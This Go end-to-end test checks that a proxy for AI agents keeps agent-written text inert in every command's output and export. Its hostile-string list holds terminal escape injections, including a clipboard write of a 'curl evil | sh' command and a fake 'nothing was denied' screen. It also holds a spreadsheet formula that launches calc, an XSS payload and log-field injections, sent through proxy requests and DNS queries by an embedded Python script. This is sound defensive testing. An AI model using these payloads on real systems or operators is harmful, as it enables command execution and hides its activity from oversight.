// Copyright The Bawn Authors.
// SPDX-License-Identifier: Apache-2.0

package e2e_test

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"log/slog"
	"path"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"bawn/internal/audit"
	"bawn/internal/ids"
	"bawn/internal/verdict"
)

// hostileText is what an agent may write where it may write anything: what a
// terminal, a log viewer, a spreadsheet or a person would take for something
// else. No two octets of it are needed together; it stands for its kinds.
var hostileText = []string{
	"\x1b]0;owned\x07",                                           // a terminal's title
	"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",                         // its clipboard (OSC 52)
	"\x1b[2J\x1b[1;1Hnothing was denied",                         // its screen
	"\x1b[?1049h\x1b[8m",                                         // another screen, hidden text
	"\x1bP+q544e\x1b\\",                                          // a question that it answers as if typed
	"\x9b31m\xc2\x9b31m",                                         // the same in one octet, and in UTF-8
	"a\r\nb\rallow  200  api.example.com",                        // a line of its own
	"\u202etxt.exe\u202c\u2066x\u2069\u200f",                     // right to left
	"\u2028second line\u2029third\u0085",                         // lines that are none in ASCII
	"\U000e0001\U000e0041\U000e007f\u200bx\ufeff",                // what cannot be seen
	"=cmd|' /C calc'!A0",                                         // a spreadsheet's formula
	"|cs1=a|b=c\\|\\=\\\\",                                       // fields of CEF
	"`x` [y](https://evil.example) <img src=x onerror=alert(1)>", // Markdown and HTML
	"\xff\xfe\xc0\xaf\xed\xa0\x80",                               // no UTF-8
	"\x00\x7f\b\b\b\bok",
}

// speaksHostile is what the agent runs: it says its text wherever somebody
// listens, as name, path, method, header, question, message and file name. It
// minds no answer.
const speaksHostile = `
import base64, os, socket, ssl, struct, sys, urllib.parse
texts = [base64.b64decode(t) for t in sys.argv[2:]]
api = sys.argv[1].encode()
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
def send(data, tls=None):
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), 2)
        s.settimeout(1)
        if tls is not None:
            s.sendall(b"CONNECT " + api + b":443 HTTP/1.1\r\nHost: " + api + b":443\r\n\r\n")
            s.recv(4096)
            c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
            s = c.wrap_socket(s, server_hostname=tls)
        s.sendall(data)
        s.recv(4096)
        s.close()
    except Exception:
        pass
quoted = lambda t: b"".join(b"%%%02X" % c for c in t)
for t in texts:
    flat = t.replace(b"\r", b"").replace(b"\n", b"").replace(b" ", b"")
    send(b"CONNECT " + t + b":443 HTTP/1.1\r\nHost: " + t + b"\r\n\r\n")
    send(b"CONNECT " + flat + b".example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n")
    send(b"GET http://" + flat + b"/ HTTP/1.1\r\nHost: " + flat + b"\r\n\r\n")
    for line in (b"GET /" + quoted(t), b"GET /" + flat, b"GET /?" + flat, flat + b" /", b"GET /x"):
        send(line + b" HTTP/1.1\r\nHost: " + api + b"\r\nX-" + flat + b": " + flat + b"\r\nUser-Agent: " + flat + b"\r\n\r\n", api.decode())
    send(b"GET / HTTP/1.1\r\nHost: " + flat + b"\r\n\r\n", api.decode())
    label = flat[:60]
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x07example\x03com\x00" + struct.pack(">HH", 1, 1)
    for server in ("192.0.2.1", "127.0.0.1", proxy.hostname):
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(0.2)
            u.sendto(question, (server, 53)); u.recv(512)
        except Exception:
            pass
    try:
        open(b"/tmp/" + flat.replace(b"/", b"").replace(b"\0", b""), "w").close()
    except Exception:
        pass
`

// shownBy is how each command is run here. A command that is in no line fails the
// test: what it prints has to be looked at.
var shownBy = map[string][][]string{
	"agent create":     {{"late\x1b[2J", "--user", "x"}, {"late", "--user", hostileText[1]}},
	"agent list":       {{}, {"--json"}},
	"agent remove":     {{"no\x1b]0;such\x07"}},
	"allow":            {{"dev", "GET https://api.example.com/granted", "--for", "10m", "--reason", hostileText[0] + hostileText[7]}, {"dev", hostileText[2], "--for", "1m"}},
	"audit acts":       {{}, {"--json"}},
	"audit anchors":    {{}},
	"audit export":     {{"--out", "/tmp/x-jsonl", "--agent", "dev"}, {"--out", "/tmp/x-ocsf", "--format", "ocsf"}, {"--out", "/tmp/x-cef", "--format", "cef"}},
	"audit verify":     {{}, {"--json"}},
	"backup":           {{"/tmp/backup-of-oper"}}, // refused: it needs root
	"budget":           {{}, {"dev"}, {hostileText[0]}},
	"codes":            {{}, {"--json"}, {"host_not_allowed"}, {hostileText[0]}},
	"doctor":           {{}, {"--json"}},
	"grants":           {{}, {"--json"}},
	"help":             {{}, {hostileText[0]}},
	"install":          {{"--dry-run"}},
	"log":              {{}, {"--json"}, {"--verdict", "deny", "--limit", "50"}, {"--by", "host,code"}, {"--by", "agent", "--json"}, {"--host", hostileText[0]}, {"--path", "/%1B"}},
	"metrics":          {{}},
	"policy apply":     {{"/tmp/" + hostileText[0]}, {"/tmp/hostile.yaml"}},
	"policy check":     {{"/tmp/hostile.yaml"}},
	"policy diff":      {{"current", "/tmp/hostile.yaml"}, {"current", "1"}},
	"policy explain":   {{"dev", "https://api.example.com/" + "%1B%5D0;x%07"}, {"dev", "https://\x1b[2Jx.example.com/"}},
	"policy replay":    {{"/tmp/narrow.yaml"}, {"/tmp/narrow.yaml", "--json"}},
	"policy revisions": {{}, {"--json"}},
	"policy rollback":  {{"99"}},
	"policy show":      {{}, {"--effective"}, {"--effective", "dev"}},
	"policy suggest":   {{}, {"--agent", "dev"}, {"--json"}},
	"policy test":      {{"/tmp/" + hostileText[0]}},
	"report":           {{}, {"--since", "1h"}, {"--json"}},
	"restore":          {{"/tmp/" + hostileText[0]}},
	"revoke":           {{hostileText[0]}},
	"run":              {{"--agent", hostileText[0], "--", "true"}},
	"status":           {{}, {"--json"}},
	"uninstall":        {{}}, // refused: it needs root
	"up":               {{}}, // likewise
	"usage":            {{}, {"--json"}, {"--by", "host"}},
	"who":              {{"10.0.0.1:1"}, {hostileText[0]}},
}

// TestI14AgentsTextIsInertInEveryCommand has an agent write hostile text wherever
// it can, and looks at every octet that any command then prints or writes.
func TestI14AgentsTextIsInertInEveryCommand(t *testing.T) {
	t.Parallel() // most of it is waiting
	h := boot(t)
	for _, agent := range placements() {
		h.hostile(t, agent)
	}
	h.records(t)
	// A program's arguments are shown while it runs.
	held := h.session(t.Context(), "dev", append([]string{"sh", "-c", "echo; sleep 600", "sh"}, argumentsOf(hostileText)...)...)
	out, err := held.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := held.Start(); err != nil {
		t.Fatal(err)
	}
	defer held.Wait()
	defer held.Process.Kill()
	if _, err := out.Read(make([]byte, 1)); err != nil {
		t.Fatal(err)
	}
	h.write(t, "/tmp/hostile.yaml", "version: 1\nprofiles:\n  coder: {rules: []}\nagents:\n  dev: {profile: coder, rules: [{host: api.example.com, id: \"\\e]0;x\\a\", reason: \"\\e[2J\\u202e\"}]}\n")
	h.write(t, "/tmp/narrow.yaml", "version: 1\nprofiles:\n  coder: {rules: []}\nagents:\n  dev: {profile: coder}\n  guest: {profile: coder}\n")
	commands := h.commands(t)
	for _, c := range commands {
		if shownBy[c] == nil {
			t.Errorf("bawn %s: nobody has looked at what it prints; give it a line in shownBy", c)
		}
		for _, args := range shownBy[c] {
			h.looksInert(t, append(strings.Fields(c), args...))
		}
	}
	for c := range shownBy {
		if !slices.Contains(commands, c) {
			t.Errorf("bawn %s is no command", c)
		}
	}
	h.filesInert(t)
}

func argumentsOf(texts []string) (args []string) {
	for _, s := range texts {
		args = append(args, strings.ReplaceAll(s, "\x00", ""))
	}
	return args
}

// hostile has the agent say everything.
func (h *host) hostile(t *testing.T, agent string) {
	t.Helper()
	argv := []string{"python3", "-c", speaksHostile, h.w.Names.API}
	for _, s := range hostileText {
		argv = append(argv, base64.StdEncoding.EncodeToString([]byte(s)))
	}
	if r := h.in(t, agent, argv...); r.status != 0 {
		t.Fatalf("saying it: %s%s", r.out, r.err)
	}
	n := 0
	for _, r := range h.decisions(t, all) {
		if r.Agent == agent {
			n++
		}
	}
	if n < 5*len(hostileText) {
		t.Fatalf("%s: %d records: the text did not come through", agent, n)
	}
}

// records writes to the proxy's journal what no agent has got into it so far:
// the text in every field. A reader must not rely on what the planes let pass.
func (h *host) records(t *testing.T) {
	t.Helper()
	if err := h.Stop(); err != nil {
		t.Fatal(err)
	}
	j, err := audit.OpenJournal(h.w.Host.File(journalDir), audit.Options{Plane: "proxy", Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	for i, s := range hostileText {
		d := audit.Decision{Time: now, Request: fmt.Sprintf("r-hostile-%d", i), Revision: 1}
		d.Identity = ids.Identity{Slot: 1, Gen: ids.Generation{Epoch: 1, Count: 1}, Session: s, Agent: "dev", User: s}
		o := audit.Outcome{Time: now, Request: d.Request, Identity: d.Identity, Revision: 1, Status: 200}
		if i%2 == 0 {
			d.Agent = s
		}
		if i%3 == 0 {
			d.Verdict = verdict.Allow
		}
		everyString(reflect.ValueOf(&d).Elem(), s)
		everyString(reflect.ValueOf(&o).Elem(), s)
		if err := errors.Join(j.Decide(&d), j.Outcome(&o)); err != nil {
			t.Fatal(err)
		}
	}
	if err := j.Close(); err != nil {
		t.Fatal(err)
	}
	h.root(t, "chown --reference="+journalDir+" "+journalDir+"/*; chmod --reference=$(ls "+journalDir+"/*.jsonl | head -n 1) "+journalDir+"/*.jsonl")
	if err := h.Up(t.Context()); err != nil {
		t.Fatal(err)
	}
}

// everyString sets the strings of a record that are empty.
func everyString(v reflect.Value, s string) {
	for i := range v.NumField() {
		f := v.Field(i)
		switch {
		case f.Kind() == reflect.String && f.String() == "" && f.CanSet() && v.Type().Field(i).Name != "Plane":
			f.SetString(s)
		case f.Kind() == reflect.Struct && v.Type().Field(i).Anonymous:
			everyString(f, s)
		}
	}
}

// commands lists what a person can call, as completion does.
func (h *host) commands(t *testing.T, above ...string) (list []string) {
	t.Helper()
	cmd := h.Command(t.Context(), append(append([]string{"__complete"}, above...), "")...)
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(out)) {
		name, _, described := strings.Cut(strings.TrimSpace(line), "\t")
		if !described || strings.HasPrefix(name, "-") || strings.HasPrefix(name, ":") {
			continue
		}
		full := append(slices.Clone(above), name)
		below := []string(nil)
		if len(above) == 0 && (name == "agent" || name == "audit" || name == "policy") {
			below = h.commands(t, full...)
		}
		if below == nil {
			below = []string{strings.Join(full, " ")}
		}
		list = append(list, below...)
	}
	return list
}

// looksInert runs a command as the operator, who sees a terminal's worth of it.
func (h *host) looksInert(t *testing.T, argv []string) {
	t.Helper()
	var out, stderr bytes.Buffer
	cmd := h.Command(t.Context(), argv...)
	cmd.Stdout, cmd.Stderr = &out, &stderr
	err := cmd.Run()
	if out.Len()+stderr.Len() == 0 && err != nil {
		t.Errorf("bawn %q: it failed (%v) and said nothing", argv, err)
	}
	for name, text := range map[string][]byte{"output": out.Bytes(), "error output": stderr.Bytes()} {
		if where := actsOn(text); where >= 0 {
			t.Errorf("bawn %q: %s acts on a terminal: %q", argv, name, text[max(0, where-60):min(len(text), where+60)])
		}
	}
}

// filesInert looks at the files that the commands wrote.
func (h *host) filesInert(t *testing.T) {
	t.Helper()
	files := strings.Fields(h.root(t, "find /tmp/x-jsonl /tmp/x-ocsf /tmp/x-cef -type f").out)
	if len(files) < 3 {
		t.Fatalf("exports: %q", files)
	}
	for _, f := range files {
		text := []byte(h.root(t, "cat "+f).out)
		if len(text) == 0 {
			t.Errorf("%s is empty", f)
		}
		if where := actsOn(text); where >= 0 {
			t.Errorf("%s acts on a terminal: %q", path.Base(f), text[max(0, where-60):min(len(text), where+60)])
		}
	}
}

// actsOn finds the first octet that is more than something to read: controls but
// for the end of a line and a tab, what is no UTF-8, and what changes the order
// of text or cannot be seen. It knows nothing of the filters under test.
func actsOn(text []byte) int {
	for i := 0; i < len(text); {
		r, n := utf8.DecodeRune(text[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			return i
		case r == '\n' || r == '\t':
		case unicode.IsControl(r), unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Cs):
			return i
		}
		i += n
	}
	return -1
}

// write puts a file on the host that everybody may read.
func (h *host) write(t *testing.T, name, text string) {
	t.Helper()
	cmd := h.w.Host.Command(t.Context(), "sh", "-c", `cat >"$1"; chmod 644 "$1"`, "sh", name)
	cmd.Stdin = strings.NewReader(text)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatal(fmt.Errorf("writing %s: %w: %s", name, err, out))
	}
}
